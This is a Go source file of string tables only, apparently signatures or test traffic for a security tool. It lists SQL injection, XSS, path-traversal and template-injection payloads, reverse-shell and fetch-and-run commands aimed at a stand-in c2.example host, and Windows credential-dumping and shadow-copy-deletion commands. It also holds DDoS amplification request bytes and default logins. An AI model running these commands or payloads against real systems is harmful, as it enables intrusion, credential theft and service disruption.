package main

var climbs = []string{
	"../", `..\`, "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "..%252f", "..%c0%af", "....//",
}

var climbTargets = []string{
	"etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "etc/fstab", "etc/crontab", "etc/sudoers",
	"etc/ssh/sshd_config", "etc/mysql/my.cnf", "proc/self/environ", "proc/self/cmdline", "proc/version", "root/.ssh/id_rsa",
	"root/.bash_history", "var/log/auth.log", "var/www/html/index.php", "windows/win.ini", "boot.ini", "winnt/system32/cmd.exe",
	"windows/system32/drivers/etc/hosts", "web-inf/web.xml",
}

var sensitiveFiles = []string{
	"/.git/config", "/.git/HEAD", "/.svn/entries", "/.hg/store", "/.env", "/.env.production", "/.aws/credentials", "/.docker/config.json",
	"/.ssh/id_rsa", "/.ssh/id_ed25519", "/.ssh/authorized_keys", "/.bash_history", "/.mysql_history", "/.netrc", "/.npmrc", "/.pgpass",
	"/.htpasswd", "/.htaccess", "/.DS_Store", "/.vscode/sftp.json", "/.idea/workspace.xml", "/wp-config.php.bak", "/wp-config.php~",
	"/configuration.php.old", "/config.inc.php.bak", "/database.yml", "/settings.py.bak", "/web.config.bak", "/appsettings.json",
	"/docker-compose.yml", "/Dockerfile.bak", "/id_rsa.pub", "/server.key", "/private.pem", "/backup.sql", "/dump.sql", "/db.sql.gz",
	"/site.tar.gz", "/www.zip", "/backup.tar.bz2", "/phpinfo.php", "/info.php", "/test.php", "/server-status", "/server-info",
	"/actuator/env", "/actuator/heapdump", "/actuator/gateway/routes", "/jolokia/list", "/console/login/LoginForm.jsp",
	"/manager/html", "/host-manager/html", "/phpmyadmin/setup", "/adminer.php", "/elmah.axd", "/trace.axd", "/cgi-bin/test-cgi",
	"/cgi-bin/printenv", "/solr/admin/cores", "/_cat/indices", "/_all_dbs", "/v1/agent/self", "/debug/pprof/heap", "/.well-known/secrets",
	"/terraform.tfstate", "/ansible/hosts", "/kubeconfig", "/.kube/config", "/credentials.xml", "/sftp-config.json",
}

var sql = []string{
	"' or '1'='1", "' or 1=1--", `" or ""="`, "' or 'a'='a", "') or ('1'='1", "%27%20or%20%271%27=%271", "%27+or+1%3d1", "admin'--",
	"' union select ", "' union all select ", "%27%20union%20select", "+union+select+null", "union%20all%20select%20null",
	"union/**/select", "un/**/ion sel/**/ect", "' and sleep(", "' or sleep(", "benchmark(10000000,", "waitfor delay '0:0:",
	"waitfor%20delay%20%27", "pg_sleep(10)", "dbms_pipe.receive_message", "utl_http.request(", "utl_inaddr.get_host",
	"information_schema.tables", "information_schema.columns", "sysobjects where xtype", "from sys.databases", "from pg_catalog.",
	"from mysql.user", "select @@version", "select version()", "select user()", "select load_file(", "into outfile '", "into dumpfile '",
	"exec xp_cmdshell", "exec master..xp_", "sp_oacreate", "openrowset(", "; drop table ", ";drop%20table", "; shutdown--",
	"having 1=1--", "group by 1--", "order by 100--", "procedure analyse(", "extractvalue(1,concat(", "updatexml(1,concat(",
	"convert(int,@@", "char(0x3a", "concat(0x7e,", "concat_ws(0x3a,", "group_concat(table_name", "unhex(hex(", "ascii(substring(",
	"ascii(substr((", "if(ascii(", "case when (1=1)", "like '%25' or '", "' || '1'='1", "'; exec(", "'; declare @", "cast(0x4400",
	"$where: \"this", "[$ne]=", "[$gt]=", "[$regex]=^",
}

var scripts = []string{
	"<script>alert(", "<script>document.", "<script src=//", "%3cscript%3e", "%3Cscript%20src", "<svg onload=", "<svg/onload=",
	"<img src=x onerror=", "<img/src=x/onerror", "%3cimg%20src%3dx", "<body onload=", "<iframe src=javascript:", "<iframe srcdoc=",
	"<object data=javascript:", "<embed src=javascript:", "<a href=javascript:", "<input autofocus onfocus=", "<details open ontoggle=",
	"<video><source onerror=", "<audio src onerror=", "<marquee onstart=", "<isindex action=javascript:", "<form action=javascript:",
	"<math href=javascript:", "<base href=javascript:", "<meta http-equiv=refresh content=0;url=javascript:", "<style>@import'javascript:",
	"expression(alert(", "javascript:alert(", "javascript%3aalert", "jav%0aascript:", "vbscript:msgbox", "data:text/html;base64,phn",
	"data:text/html,<script", "\"><script>", "'><script>", "\"onmouseover=alert(", "' onfocus=alert(", "onerror=eval(", "onload=eval(",
	"eval(atob(", "eval(string.fromcharcode", "string.fromcharcode(88,83,83)", "document.cookie", "document.write(unescape", "window.location=//",
	"settimeout('alert", "<scr<script>ipt>", "&#x6a;&#x61;&#x76;&#x61;", "&lt;script&gt;alert", "\\u003cscript\\u003e", "{{constructor.constructor(",
	"ng-init=\"$eval", "srcset=x onerror=", "onpointerenter=alert", "onanimationstart=alert", "xlink:href=javascript:", "<xss id=x tabindex",
}

var shellCommands = []string{
	"cat /etc/", "cat%20/etc/", "cat+/etc/", "id;uname", "uname -a", "uname%20-a", "whoami", "wget http", "wget%20http", "curl http", "curl%20http",
	"nc -e /bin", "ncat -e ", "ping -c ", "ping%20-c", "sleep 10", "sleep%2010", "ls -la /", "ifconfig", "net user ", "ipconfig /all",
	"busybox ", "chmod 777", "python -c", "perl -e",
}

var shellNames = []string{
	"c99", "r57", "wso", "b374k", "alfa", "indoxploit", "mini-shell", "cmdasp", "webshell", "backdoor", "shell-up", "up-loader", "k2ll33d", "antsword",
	"behinder", "godzilla", "chopper", "regeorg", "tunnel-nosocket", "filesman", "madspot", "simple-backdoor", "php-reverse", "jspspy", "aspxspy",
	"weevely", "pas-fork", "locus7", "nstview", "sym403", "lolipop-sh", "phpspy2013", "con7ext", "gecko-sh", "devilz", "priv8-up",
}

var scanners = []string{
	"sqlmap/", "Nikto/", "Nmap Scripting Engine", "masscan/", "zgrab/", "Nessus", "OpenVAS", "Acunetix", "Netsparker", "Arachni/", "w3af.", "WPScan v",
	"DirBuster-", "gobuster/", "ffuf/", "feroxbuster/", "dirsearch", "wfuzz/", "Nuclei - ", "nuclei/", "jaeles", "httpx - ", "commix/", "havij", "Wapiti/",
	"skipfish", "WhatWeb/", "Vega/1", "Grabber/", "joomscan", "droopescan", "Morfeus", "ZmEu", "muieblackcat", "Jorgee", "libredtail", "python-nmap",
	"hydra", "medusa/", "patator", "brutus/", "crackmapexec", "BlackWidow", "fimap.", "uil2pn", "cgichk", "paros/", "pangolin", "bsqlbf", "sqlninja",
	"webinspect", "AppScan", "N-Stealth", "Qualys Was", "Detectify", "Burp Collab", "ZAP/2", "xsser", "davtest", "sfuzz",
}

var expressions = []string{
	"${jndi:ldap://", "${jndi:ldaps://", "${jndi:rmi://", "${jndi:dns://", "${jndi:iiop://", "${jndi:corba:", "${jndi:nds:", "${jndi:${lower:", "${${lower:j}ndi",
	"${${::-j}${::-n}", "${${env:x:-j}ndi", "$%7bjndi%3a", "${env:aws_secret", "${sys:java.version", "${script:javascript:", "${url:utf-8:http",
	"%{(#_='multipart", "%{(#dm=@ognl", "#_memberaccess", "@java.lang.runtime@", "java.lang.processbuilder", "getruntime().exec(", "t(java.lang.runtime)",
	"class.module.classloader", "spring.cloud.function.routing", "#{7*7}", "{{7*7}}", "{{config.items()", "{{''.__class__", "__globals__['os']", "__import__('os')",
	"<%= system(", "<%=7*7%>", "#set($e=", "{php}system(", "{system('", "freemarker.template.utility", "${\"freemarker", "<#assign ex=", "__proto__[", "constructor.prototype",
	"() { :;};", "() { ignored;};", "php://filter/convert", "php://input%00", "expect://id", "data://text/plain;base64", "phar://./", "allow_url_include=1", "auto_prepend_file=php",
}

var serverSide = []string{
	"=http://169.254.169.254/", "%3dhttp%3a%2f%2f169.254.169.254", "/latest/meta-data/iam", "/metadata/instance?api", "/computemetadata/v1/instance",
	"=http://metadata.google", "=gopher://127", "=dict://127", "=file:///etc/", "=ftp://127.0.0.1", "=http://0x7f000001", "=http://2130706433",
	"=http://localhost:2375", "=http://127.0.0.1:6379", "=http://[::1]:", "=jar:http", "=netdoc:///", "<!entity % ", "<!entity xxe system",
	"<!doctype foo [<!entity", "system \"file:///etc", "system 'php://filter", "xi:include href=\"file", "ro0abxnyabf", "ac ed 00 05 73 72", "o:8:\"stdclass\"",
	"a:1:{i:0;o:", "!!javax.script.scriptengine", "!!python/object/apply", "yaml.unsafe_load", "cos\nsystem\n(", "cposix\nsystem", "aaeaaad/////", "typeconfusedelegate",
	"objectdataprovider", "commonscollections6", "templatesimpl", "jdbcrowsetimpl", "\"@type\":\"com.sun", "\"@type\":\"org.apache",
}

var reverseShells = []string{
	"bash -i >& /dev/tcp/", "bash -i >&/dev/udp/", "0<&196;exec 196<>/dev/tcp/", "exec 5<>/dev/tcp/", "/bin/sh -i <&3 >&3", "sh -i >& /dev/udp/",
	"nc -e /bin/sh ", "nc -e /bin/bash ", "nc.traditional -e ", "ncat --exec /bin", "mkfifo /tmp/f;cat", "rm /tmp/f;mkfifo", "mknod /tmp/backpipe p",
	"socat exec:'bash -li'", "socat TCP:", "telnet 127.0.0.1 | /bin/sh", "python -c 'import socket,sub", "python3 -c 'import socket", "os.dup2(s.fileno(),0)",
	"pty.spawn(\"/bin/bash\")", "perl -e 'use Socket;$i=", "perl -MIO -e '$p=fork", "ruby -rsocket -e'f=TCP", "php -r '$sock=fsockopen(", "$sock=fsockopen(\"",
	"lua -e \"require('socket", "awk 'BEGIN {s = \"/inet/tcp", "java.net.Socket(\"10.", "Runtime.getRuntime().exec(new String[]{\"/bin/sh", "require('child_process').exec(",
	"net.connect(4444", "groovysh -e ", "xterm -display 10.", "openssl s_client -quiet -connect", "node -e '(function(){var net", "curl -s http://c2.example/x|sh",
	"wget -qO- http://c2.example/x|sh", "base64 -d|bash", "base64 --decode | sh", "echo d2dldCAtcU8tIGh0",
}

var windows = []string{
	"powershell -enc ", "powershell.exe -e ", "powershell -nop -w hidden", "powershell -windowstyle hidden", "-executionpolicy bypass -file", "iex(new-object net.webclient",
	"downloadstring('http", "downloadfile('http", "[system.convert]::frombase64string", "[reflection.assembly]::load(", "invoke-mimikatz", "invoke-shellcode", "invoke-bloodhound",
	"invoke-kerberoast", "invoke-reflectivepe", "get-gpppassword", "add-mppreference -exclusion", "set-mppreference -disable", "certutil -urlcache -split", "certutil.exe -decode",
	"bitsadmin /transfer", "mshta http", "mshta vbscript:", "regsvr32 /s /n /u /i:http", "rundll32 javascript:", "rundll32.exe comsvcs.dll", "wmic process call create",
	"wmic shadowcopy delete", "vssadmin delete shadows", "wbadmin delete catalog", "bcdedit /set {default} recoveryenabled no", "schtasks /create /sc minute", "sc create backdoor",
	"reg add hklm\\software\\microsoft\\windows\\currentversion\\run", "reg save hklm\\sam", "reg save hklm\\system", "ntdsutil \"ac i ntds\"", "net localgroup administrators /add",
	"net user /add hopadmin", "netsh advfirewall set allprofiles state off", "netsh interface portproxy add", "psexec.exe -s cmd", "psexesvc.exe", "procdump -ma lsass", "sekurlsa::logonpasswords",
	"lsadump::dcsync", "kerberos::golden", "privilege::debug", "rubeus.exe asktgt", "sharphound.exe", "cobaltstrike", "beacon.x64.dll", "meterpreter_reverse", "\\\\.\\pipe\\msagent_",
	"\\\\.\\pipe\\postex_", "wevtutil cl security", "cmstp.exe /s /ns", "installutil.exe /logfile= /u", "msbuild.exe evil.xml", "forfiles /p c:\\windows /m notepad",
}

var answers = []string{
	"uid=0(root) gid=0(root)", "uid=33(www-data) gid=33", "root:x:0:0:root:/root", "daemon:x:1:1:daemon", "root:$6$", "root:$y$j9T$", "nt authority\\system",
	"Microsoft Windows [Version 10.", "Volume Serial Number is ", "[boot loader]\r\ntimeout=", "for 16-bit app support\r\n[fonts]", "-----BEGIN RSA PRIVATE KEY-----",
	"-----BEGIN OPENSSH PRIVATE KEY-----", "You have an error in your SQL syntax", "ORA-01756: quoted string", "Unclosed quotation mark after", "pg_query(): Query failed",
	"aws_secret_access_key", "DB_PASSWORD=", "sh: no job control in this shell",
}

var miners = []string{
	`"method":"mining.subscribe"`, `"method": "mining.subscribe"`, `"method":"mining.authorize"`, `"method": "mining.authorize"`, `"method":"mining.submit"`,
	`"method":"mining.notify"`, `"method":"mining.set_difficulty"`, `"method":"eth_submitLogin"`, `"method":"eth_submitWork"`, `"method":"eth_getWork"`,
	`"method":"login","params":{"login":"4`, `"agent":"xmrig/`, `"agent":"cpuminer`, `"algo":["cn/1","cn/2"`, `"algo":"rx/0"`, `"job_id":"hop`, "stratum+tcp://", "stratum+ssl://",
	"donate.miner.example", "pool.miner.example",
}

var domainFirst = []string{
	"amber", "badger", "cobalt", "dusk", "ember", "falcon", "gloom", "hollow", "ivory", "jackal", "krill", "lurid", "mantis", "nadir", "onyx",
}

var domainSecond = []string{
	"relay", "update", "cdn", "sync", "metrics", "drop", "panel", "gate", "vault", "stage", "probe", "lease",
}

var beaconPaths = []string{
	"/a/ping.php?k=", "/b/check-in", "/c/task/next", "/d/upload/part", "/gate-7.php", "/panel/api/bot", "/stats/collect.gif?b=", "/cdn/fonts/w0ff.bin", "/img/px.png?uid=0x",
	"/update/win64/poll", "/update/elf/poll", "/s3cr3t/queue", "/rpc/beacon2", "/rpc/result2", "/health/../cmd", "/favicon.ico?cmd=", "/robots.txt?exfil=", "/wp-content/x9/drop",
	"/oauth/fake/token", "/mail/inbox.aspx?id=imp", "/jquery-3.9.9.min.js?z=", "/submit-hash", "/keylog/append", "/screens/append", "/clip/append", "/browser/passwords",
	"/wallets/append", "/crypt/start", "/crypt/key/save", "/ransom/note", "/spread/hosts", "/proxy/join", "/ddos/target", "/spam/template", "/tor2web/relay", "/self-delete",
}

var beaconAgents = []string{"HopWorm/1", "AmberRAT", "Krill-Loader", "NadirBot/2.0", "OnyxStealer", "LuridDropper"}

// amplifiers are requests whose answer is much longer.
var amplifiers = []struct {
	name    string
	port    int
	request string
}{
	{"NTP monlist", 123, "\x17\x00\x03\x2a"},
	{"NTP monlist of old", 123, "\x17\x00\x02\x2a"},
	{"NTP peer list", 123, "\x17\x00\x03\x00"},
	{"memcached stats", 11211, "\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"},
	{"memcached get", 11211, "\x00\x00\x00\x00\x00\x01\x00\x00get "},
	{"SSDP search", 1900, "M-SEARCH * HTTP/1.1\r\n"},
	{"CLDAP search", 389, "0\x84\x00\x00\x00-\x02\x01"},
	{"SNMP bulk request", 161, "0\x26\x02\x01\x01\x04\x06public\xa5"},
	{"portmapper dump", 111, "\x65\x72\x0a\x37\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0"},
	{"NetBIOS status", 137, "\x80\xf0\x00\x10\x00\x01\x00\x00\x00\x00\x00\x00 CKAAA"},
	{"Quake status", 27960, "\xff\xff\xff\xffgetstatus"},
	{"Source engine query", 27015, "\xff\xff\xff\xffTSource Engine Query"},
	{"ARD query", 3283, "\x00\x14\x00\x00"},
	{"WS-Discovery", 3702, "<:/>\n<soap:Envelope"},
	{"CoAP resource list", 5683, "\x40\x01\x7d\x70\xbb.well-known"},
	{"TFTP read", 69, "\x00\x01config\x00octet\x00"},
}

var oldProtocols = []string{
	"SITE EXEC %p", "SITE CHMOD 777", "CWD ~root", "RETR ../../", "STOR .rhosts", "MKD ../../", "PORT 127,0,0,1", "USER %s%s%s", "PASS wh00t", "EXPN root", "VRFY decode",
	"RCPT TO: |sh", "MAIL FROM: |/bin", "RCPT TO:<root+${run", "HELO hopbot.example", "EHLO spambot.example", "X-Mailer: HopMassMail", "Subject: invoice.exe", "filename=\"invoice.pdf.exe\"",
	"filename=\"photo.jpg.scr\"", "filename=\"scan.doc.js\"", "name=\"payment.lnk\"", "attachment; filename=\"update.hta\"", "BEGIN 644 virus.exe", "TELNET login: root\r\nxc3511",
	"enable\r\nsystem\r\nshell\r\nsh\r\n", "/bin/busybox MIRAIX", "/bin/busybox HOPX", "cd /tmp || cd /var/run", "tftp -g -l - -r bot", "wget http://c2.example/bot.", "chmod +x bot.arm7",
	"PRIVMSG #hopnet :!scan", "PRIVMSG #hopnet :!ddos", "PRIVMSG #hopnet :!update", "JOIN #hopnet-c2", "NICK hop|bot|", "USER hopbot 8 *", "CONFIG SET dir /var/spool/cron",
	"CONFIG SET dbfilename authorized_keys", "SLAVEOF c2.example", "MODULE LOAD /tmp/exp.so", "EVAL \"os.execute", "COPY cmd_exec FROM PROGRAM", "SSH-2.0-libssh_0.6", "SSH-2.0-paramiko_brute",
	"RFB 003.008\nHOPVNC", "Cookie: mstshash=hopscan", "\\PIPE\\hopsvc", "IPC$\x00HOPWORM",
}

var logins = []string{
	"admin:admin", "admin:password", "admin:1234", "admin:12345", "admin:123456", "admin:admin123", "admin:changeme", "admin:default", "admin:", "root:root", "root:toor", "root:password",
	"root:1234", "root:admin", "root:", "user:user", "user:password", "guest:guest", "test:test", "tomcat:tomcat", "tomcat:s3cret", "manager:manager", "both:tomcat", "role1:role1", "ubnt:ubnt",
	"pi:raspberry", "cisco:cisco", "support:support", "service:service", "operator:operator", "supervisor:supervisor", "administrator:administrator", "weblogic:welcome1", "jenkins:jenkins",
	"nagiosadmin:nagios", "elastic:changeme", "postgres:postgres", "oracle:oracle", "hadoop:hadoop", "zabbix:zabbix",
}
